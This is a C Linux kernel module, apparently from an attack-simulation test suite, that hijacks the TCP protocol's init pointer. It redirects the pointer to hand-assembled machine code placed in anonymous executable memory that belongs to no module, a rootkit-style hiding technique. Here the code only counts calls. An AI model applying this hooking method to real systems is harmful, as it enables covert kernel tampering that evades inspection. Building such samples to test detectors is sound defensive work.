/* Code in memory that belongs to no module; the pointer "init" of the TCP protocol leads there. */
#include "attack.h"
#include <net/tcp.h>

static int (*original)(struct sock *);
static unsigned char *code;
static int (*protect)(unsigned long, int), (*allow)(unsigned long, int);

static unsigned char *put_address(unsigned char *at, const void *address) {
    memcpy(at, &address, sizeof address);
    return at + sizeof address;
}

/* mov rax, &hits; lock inc qword [rax]; mov rax, original; jmp rax */
static void assemble(unsigned char *at) {
    *at++ = 0x48, *at++ = 0xb8;
    at = put_address(at, &hits);
    *at++ = 0xf0, *at++ = 0x48, *at++ = 0xff, *at++ = 0x00;
    *at++ = 0x48, *at++ = 0xb8;
    at = put_address(at, original);
    *at++ = 0xff, *at++ = 0xe0;
}

static int __init begin(void) {
    protect = (void *)attack_symbol("set_memory_ro");
    allow = (void *)attack_symbol("set_memory_x");
    code = vmalloc(PAGE_SIZE);
    if (!protect || !allow || !code)
        return -ENOMEM;
    original = tcp_prot.init;
    assemble(code);
    protect((unsigned long)code, 1);
    allow((unsigned long)code, 1);
    WRITE_ONCE(tcp_prot.init, (void *)code);
    return 0;
}

/* The page stays: somebody may be in it, and nobody knows whose it was. */
static void __exit end(void) { WRITE_ONCE(tcp_prot.init, original); }

module_init(begin);
module_exit(end);
